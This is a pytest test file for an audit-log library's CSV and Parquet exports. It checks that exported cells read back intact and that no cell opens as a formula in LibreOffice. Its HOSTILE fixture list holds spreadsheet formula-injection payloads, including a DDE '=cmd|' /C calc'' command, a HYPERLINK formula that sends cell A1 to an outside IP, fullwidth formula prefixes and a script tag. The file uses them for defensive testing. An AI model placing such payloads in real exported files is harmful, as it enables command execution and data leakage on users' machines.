"""Exports read by other programs give the cells that were written, and times as times.

CSV by Python, pandas, DuckDB, polars and LibreOffice; Parquet by pyarrow, DuckDB, pandas and polars.
"""

import csv
import io
import json
import math
import re
import shutil
import subprocess
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Literal
from xml.etree import ElementTree

import duckdb
import pandas  # type: ignore[import-untyped]
import polars
import pytest
from tests.support.databases import Database, insert_row
from tests.support.sample_events import DEPLOYED, KEY_CREATED, LONG_AGO, MODEL, TUNED, record

from auditwright import AccountLog, Actor, AuditLog
from auditwright.limits import MAX_STRING
from auditwright.storage.csv_cells import FORMULA

Table = list[list[str]]

HOSTILE = [
    'a "quoted" word',
    '"',
    '""',
    "a\nb",
    "a\r\nb",
    "\r\n",
    "\n",
    "a\rb",
    "a,b",
    ",",
    "a;b",
    "a\tb",
    "\ta",
    "a|b",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"see")',
    "+1",
    "-1",
    "-1+1|cmd",
    "@SUM(1+1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''",
    "'",
    "it's",
    " =1+1",
    '"=1+1',
    ' " -1',
    "x;=2+3;y",
    "x;=2+3",
    "x\t=2+3\ty",
    "x|=2+3|y",
    "x\n=2+3",
    "x\r=2+3;y",
    "x\r\n=2+3;y",
    'x; "=2+3;y',
    "x;+2;-3|@SUM(1)\t＝1;＋1;－1;＠1",
    ";=1;;'=2;''",
    "x;\t=1",
    "=1;=1|=1\n=1\r=1",
    "a\x01\x07\x1b[31mb\x7f",
    "a\u0085b",
    "\u202ereversed\u202c \u2066isolated\u2069",
    "\u200e\ufeffmark",
    "\ufeffbom",
    "a\u2028b\u2029c",
    "1,5",
    "1.234,56",
    "1e5",
    "007",
    "2026-01-02",
    "TRUE",
    "NULL",
    "nan",
    "N/A",
    "NA",
    "None",
    "#REF!",
    "\\N",
    "\\",
    '\\"',
    "a\\",
    "%s %d {0}",
    "<script>alert(1)</script>",
    "\ufffd for a NUL",
    "é ü 日本語 😀 עברית",
    "x,=2+3,y",
    'x, "=2+3,y',
    ",=1;,'=2|,-3",
    "x" * MAX_STRING,
    "=" + "y" * (MAX_STRING - 1),
    '"' * 1000,
    "\r\n" * 1000,
]
"""Texts of cells."""


def unguarded(cell: str) -> str:
    """The text of a cell without the ' guards, removed as in the guide."""
    return re.sub(r"(^|[;|\t\r\n])'", r"\1", cell)


def guarded(text: str) -> str:
    """The rule of the guide, in its words: each part of a text that may begin a cell."""
    parts = re.split(r"([;|\t\r\n])", text)
    first = FORMULA if text.lstrip(' "').startswith(FORMULA) else ()
    made = "'" if first else ""
    for number in range(0, len(parts), 2):
        rest = "".join(parts[number:])
        begins = rest.lstrip(' "').startswith(tuple(set(FORMULA) - {"\n", "\r"}))
        made += ("'" if number and begins else "") + "".join(parts[number : number + 2])
    return made


@pytest.fixture
def hostile(log: AuditLog, acme: AccountLog, database: Database, tmp_path: Path) -> Path:
    """A full CSV with each hostile text as the description, the name and the id of a user, oldest last.

    plain.csv has the columns of the page only; comma.csv and semicolon.csv are full, and for Excel.
    """
    insert(database, log, HOSTILE)
    target = tmp_path / "out.csv"
    acme.export_csv(tmp_path / "comma.csv", full=True, excel="comma")
    acme.export_csv(tmp_path / "semicolon.csv", full=True, excel="semicolon")
    assert acme.export_csv(target, full=True) == len(HOSTILE)
    assert acme.export_csv(tmp_path / "plain.csv") == len(HOSTILE)
    return target


def insert(database: Database, log: AuditLog, texts: list[str]) -> None:
    for number, text in enumerate(reversed(texts)):
        insert_row(
            database,
            log.catalog,
            occurred_at=LONG_AGO + timedelta(seconds=number),
            description=text,
            actor_name=text[:3000],
            actor_id=text[:200],
            metadata=json.dumps({"model_name": text[:3000]}),
        )


def by_python(path: Path) -> Table:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream, strict=True))


def by_pandas(path: Path) -> Table:
    found = pandas.read_csv(path, dtype=str, keep_default_na=False)
    return [list(found.columns), *found.values.tolist()]


def by_duckdb(path: Path) -> Table:
    with duckdb.connect() as connection:
        found = connection.execute(
            f"""SELECT * FROM read_csv('{path}', all_varchar = true, header = true, delim = ',', quote = '"',
            escape = '"', max_line_size = 4000000)"""
        )
        names = [column[0] for column in found.description or ()]
        return [names, *([cell or "" for cell in row] for row in found.fetchall())]


def by_polars(path: Path) -> Table:
    found = polars.read_csv(path, infer_schema=False)
    return [found.columns, *([cell or "" for cell in row] for row in found.rows())]


READERS: list[Callable[[Path], Table]] = [by_python, by_pandas, by_duckdb, by_polars]


@pytest.fixture(autouse=True)
def _large_cells() -> None:
    csv.field_size_limit(4_000_000)


@pytest.mark.parametrize("read", READERS)
def test_hostile_cells_come_back(hostile: Path, read: Callable[[Path], Table]) -> None:
    head, *rows = read(hostile)
    assert head[3:5] == ["Description", "User or App Name"]
    assert head[10] == "Actor ID"
    assert [unguarded(row[3]) for row in rows] == HOSTILE
    assert [unguarded(row[4]) for row in rows] == [text[:3000] for text in HOSTILE]
    assert [unguarded(row[10]) for row in rows] == [text[:200] for text in HOSTILE]
    names = [json.loads(row[-1])["model_name"] for row in rows]
    assert [re.sub(r"([;|])'", r"\1", name) for name in names] == [text[:3000] for text in HOSTILE]
    assert read(hostile.with_name("plain.csv")) == [head[:6], *(row[:6] for row in rows)]


def test_no_cell_begins_as_a_formula_does(hostile: Path) -> None:
    cells = [cell for row in by_python(hostile) for cell in row]
    assert len(cells) == 21 * (len(HOSTILE) + 1)
    begins = tuple(set(FORMULA) - {"'"})
    assert [cell[:20] for cell in cells if cell.lstrip(' "').startswith(begins)] == []


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_separator_makes_a_formula(hostile: Path, separator: str) -> None:
    formulas = tuple(set(FORMULA) - {"'", "\t", "\n", "\r"})
    for name in ("out.csv", "plain.csv", "comma.csv", "semicolon.csv"):
        text = hostile.with_name(name).read_bytes().decode()
        cells = [
            cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row
        ]
        is_quoted = separator == "," and name != "semicolon.csv"  # wherever the separator is in a cell
        raw = re.split(r"[\r\n]" if is_quoted else rf"[\r\n{re.escape(separator)}]", text)
        lines = [line for cell in [*cells, *raw] for line in re.split(r"[\r\n]", cell)]
        assert [line[:40] for line in lines if line.lstrip(' "').startswith(formulas)] == []


def test_guards_are_where_the_guide_says(hostile: Path) -> None:
    _, *rows = by_python(hostile)
    assert [row[3] for row in rows] == [guarded(text) for text in HOSTILE]
    assert [row[4] for row in rows] == [guarded(text[:3000]) for text in HOSTILE]


def test_metadata_stays_json_and_numbers_stay_numbers(
    log: AuditLog, acme: AccountLog, tmp_path: Path
) -> None:
    record(log, TUNED, MODEL | {"model_name": 'a;"=1,-2;-3', "learning_rate": 0.5})
    acme.export_csv(tmp_path / "out.csv", full=True)
    metadata = by_python(tmp_path / "out.csv")[1][20]
    assert json.loads(metadata) == MODEL | {"model_name": "a;\"=1,-2;'-3", "learning_rate": 0.5}


@pytest.mark.parametrize("read", READERS)
def test_every_entry_comes_back_once(
    log: AuditLog, acme: AccountLog, tmp_path: Path, read: Callable[[Path], Table]
) -> None:
    with log.acting(Actor.user("u-1", "=1\n")):
        log.record_many({"event": KEY_CREATED, "metadata": {}} for _ in range(2500))
    acme.export_csv(tmp_path / "out.csv", full=True)
    _, *rows = read(tmp_path / "out.csv")
    assert [row[11] for row in rows] == [str(entry.id) for entry in acme.all()]


def test_times_are_read_as_times(log: AuditLog, acme: AccountLog, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    moments = [LONG_AGO, datetime(1970, 1, 1, tzinfo=UTC), LONG_AGO.replace(microsecond=999_000)]
    for moment in moments:
        record(log, KEY_CREATED, occurred_at=moment)
    acme.export_csv(target)
    wanted = [
        moment.replace(microsecond=moment.microsecond // 1000 * 1000) for moment in sorted(moments)[::-1]
    ]
    found = pandas.read_csv(target, parse_dates=["Date and Time (UTC)"])["Date and Time (UTC)"]
    assert [each.to_pydatetime().replace(tzinfo=UTC) for each in found] == wanted
    with duckdb.connect() as connection:
        rows = connection.execute(f"SELECT \"Date and Time (UTC)\" FROM '{target}'").fetchall()
    assert [row[0].replace(tzinfo=UTC) for row in rows] == wanted
    column = polars.read_csv(target, try_parse_dates=True)["Date and Time (UTC)"].to_list()
    assert [each.replace(tzinfo=UTC) for each in column] == wanted


@pytest.mark.parametrize("name", ["out.csv.gz", "out.csv.zst"])
def test_a_compressed_file_is_read_as_it_is(
    log: AuditLog, acme: AccountLog, tmp_path: Path, name: str
) -> None:
    record(log, KEY_CREATED, details="=1")
    target = tmp_path / name
    acme.export_csv(target, full=True)
    (entry,) = acme.all()
    for read in (by_pandas, by_duckdb, by_polars):
        assert read(target)[1][11] == str(entry.id)


# --- a spreadsheet ---------------------------------------------------------------------------------

LIBREOFFICE = shutil.which("soffice")
NAMESPACES = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
DETECTED = "CSV:44,34,76,1,,0,false,true,false,false"
"""LibreOffice's CSV options: commas, quotes, UTF-8, from line 1, detect numbers and times."""
AS_TEXT = f"CSV:44,34,76,1,{'/'.join(f'{column}/2' for column in range(2, 16))},0,false,true,false,false"
"""The same, with all columns except the first as text."""


@pytest.fixture(scope="module")
def profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """LibreOffice's settings; it fills the folder at its first start, which takes long."""
    return tmp_path_factory.mktemp("libreoffice")


def by_libreoffice(path: Path, how: str, profile: Path) -> list[list[ElementTree.Element]]:
    """The cells of each row after LibreOffice converted the CSV."""
    assert LIBREOFFICE
    subprocess.run(
        [
            *(LIBREOFFICE, "--headless", f"-env:UserInstallation={profile.as_uri()}"),
            *(f"--infilter={how}", "--convert-to", "fods", "--outdir", str(path.parent), str(path)),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    document = ElementTree.parse(path.with_suffix(".fods"))  # noqa: S314 - made by the project's own tools
    rows = document.findall(".//table:table-row", NAMESPACES)
    return [row.findall("table:table-cell", NAMESPACES) for row in rows]


def attribute(cell: ElementTree.Element, name: str) -> str | None:
    prefix, _, local = name.partition(":")
    return cell.get(f"{{{NAMESPACES[prefix]}}}{local}")


def text_of(cell: ElementTree.Element) -> str:
    return "\n".join(map(_text, cell.findall("text:p", NAMESPACES)))


def _text(element: ElementTree.Element) -> str:
    marks = {"s": " " * int(attribute(element, "text:c") or 1), "tab": "\t"}
    local = element.tag.rpartition("}")[2]
    return marks.get(local, element.text or "") + "".join(_text(each) + (each.tail or "") for each in element)


def in_libreoffice(text: str) -> str:
    """A text as LibreOffice keeps it: one kind of line end, no ASCII control characters."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(each for each in lines if each in "\n\t" or ord(each) >= 32)


@pytest.mark.sqlite_only
@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is missing: apt-get install libreoffice-calc")
@pytest.mark.parametrize("how", [DETECTED, AS_TEXT], ids=["detected", "as text"])
def test_spreadsheet_runs_no_cell(
    log: AuditLog, acme: AccountLog, database: Database, tmp_path: Path, profile: Path, how: str
) -> None:
    texts = HOSTILE
    insert(database, log, texts)
    target = tmp_path / "out.csv"
    acme.export_csv(target, full=True)
    rows = by_libreoffice(target, how, profile)[1:]
    assert len(rows) == len(texts)
    assert [each for row in rows for each in row if attribute(each, "table:formula")] == []
    assert {attribute(row[0], "office:value-type") for row in rows} == {"date"}
    newest = LONG_AGO + timedelta(seconds=len(texts) - 1)
    assert attribute(rows[0][0], "office:date-value") == f"{newest:%Y-%m-%dT%H:%M:%S}.12"
    wanted = [guarded(text) for text in texts]
    pairs = [(row[3], text) for row, text in zip(rows, wanted, strict=True)]
    as_text = [(cell, text) for cell, text in pairs if attribute(cell, "office:value-type") == "string"]
    assert [text_of(cell) for cell, _ in as_text] == [in_libreoffice(text) for _, text in as_text]
    others = [text for cell, text in pairs if attribute(cell, "office:value-type") != "string"]
    assert others == ([] if how == AS_TEXT else ["1e5", "007", "2026-01-02", "TRUE"])


# --- Parquet ---------------------------------------------------------------------------------------


def parquet_by_duckdb(path: Path) -> list[dict[str, Any]]:
    with duckdb.connect() as connection:
        table = connection.sql(f"SELECT * FROM '{path}'").to_arrow_table()
        found: list[dict[str, Any]] = table.to_pylist()
        return found


def parquet_by_pandas(path: Path) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = pandas.read_parquet(path).to_dict("records")
    for row in found:
        for name, value in row.items():
            if isinstance(value, pandas.Timestamp):
                row[name] = value.to_pydatetime()
            elif hasattr(value, "tolist"):
                row[name] = value.tolist()
            elif value is pandas.NaT or (isinstance(value, float) and math.isnan(value)):
                row[name] = None
    return found


def parquet_by_polars(path: Path) -> list[dict[str, Any]]:
    return polars.read_parquet(path).to_dicts()


@pytest.mark.parametrize("read", [parquet_by_duckdb, parquet_by_pandas, parquet_by_polars])
def test_parquet_is_read_with_its_types(
    log: AuditLog, acme: AccountLog, tmp_path: Path, read: Callable[[Path], list[dict[str, Any]]]
) -> None:
    tuned = log.catalog.events[TUNED].example
    record(log, TUNED, tuned, occurred_at=LONG_AGO)
    record(
        log, DEPLOYED, MODEL | {"temperature": 0.25, "stop_sequence": ["a", '"b"\n']}, actor=Actor.app("a-1")
    )
    target = tmp_path / "out.parquet"
    assert acme.export_parquet(target) == 2
    rows = read(target)
    for row, entry in zip(rows, acme.all(), strict=True):
        assert row["occurred_at"] == entry.occurred_at
        assert row["id"] == str(entry.id)
        assert (row["event"], row["event_title"], row["level"]) == (
            entry.event,
            entry.event_title,
            entry.level,
        )
        assert (row["actor_id"], row["actor_name"]) == (entry.actor.id, entry.actor.name)
        assert json.loads(row["metadata"]) == entry.metadata
        fields = {
            name for event in log.catalog.every_event.values() for name in (f.name for f in event.metadata)
        }
        assert {name: row[name] for name in fields if row[name] is not None} == entry.metadata


@pytest.mark.sqlite_only
@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is missing: apt-get install libreoffice-calc")
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "pipe"])
def test_spreadsheet_with_any_separator_runs_no_cell(
    log: AuditLog, acme: AccountLog, database: Database, tmp_path: Path, profile: Path, separator: str
) -> None:
    # Quotes of texts would take what follows into one cell.
    texts = [text for text in HOSTILE if '"' not in text]
    insert(database, log, texts)
    target = tmp_path / "out.csv"
    acme.export_csv(target)
    rows = by_libreoffice(target, f"CSV:{ord(separator)},34,76,1", profile)
    assert len(rows) >= len(texts)
    assert [each for row in rows for each in row if attribute(each, "table:formula")] == []


@pytest.mark.sqlite_only
@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is missing: apt-get install libreoffice-calc")
@pytest.mark.parametrize(
    ("excel", "separator", "language"), [("comma", ",", 1033), ("semicolon", ";", 1031)], ids=["US", "German"]
)
def test_spreadsheet_opens_a_file_for_excel(
    log: AuditLog,
    acme: AccountLog,
    database: Database,
    tmp_path: Path,
    profile: Path,
    excel: Literal["comma", "semicolon"],
    separator: str,
    language: int,
) -> None:
    insert(database, log, HOSTILE)
    acme.export_csv(tmp_path / "out.csv", full=True, excel=excel)
    head, *rows = by_libreoffice(
        tmp_path / "out.csv", f"CSV:{ord(separator)},34,76,1,,{language},false,true", profile
    )
    assert [text_of(cell) for cell in head][:4] == [
        "Date and Time (UTC)",
        "Event Name",
        "Category",
        "Description",
    ]
    assert len(rows) == len(HOSTILE)
    assert {text_of(row[-1])[:13] for row in rows} == {'{"model_name"'}
    assert {attribute(row[0], "office:value-type") for row in rows} == {"date"}
    newest = LONG_AGO + timedelta(seconds=len(HOSTILE) - 1)
    assert attribute(rows[0][0], "office:date-value") == f"{newest:%Y-%m-%dT%H:%M:%S}"
    assert [each for row in rows for each in row if attribute(each, "table:formula")] == []
    found = {text_of(row[3]) for row in rows}
    assert {"é ü 日本語 😀 עברית", "a;b", "a,b", 'a "quoted" word'} <= found


@pytest.mark.sqlite_only
@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is missing: apt-get install libreoffice-calc")
def test_file_for_excel_split_at_commas_runs_no_cell(
    log: AuditLog, acme: AccountLog, database: Database, tmp_path: Path, profile: Path
) -> None:
    texts = [text for text in HOSTILE if '"' not in text]
    insert(database, log, texts)
    acme.export_csv(tmp_path / "out.csv", full=True, excel="semicolon")
    rows = by_libreoffice(tmp_path / "out.csv", "CSV:44,34,76,1", profile)
    assert len(rows) >= len(texts)
    assert [each for row in rows for each in row if attribute(each, "table:formula")] == []
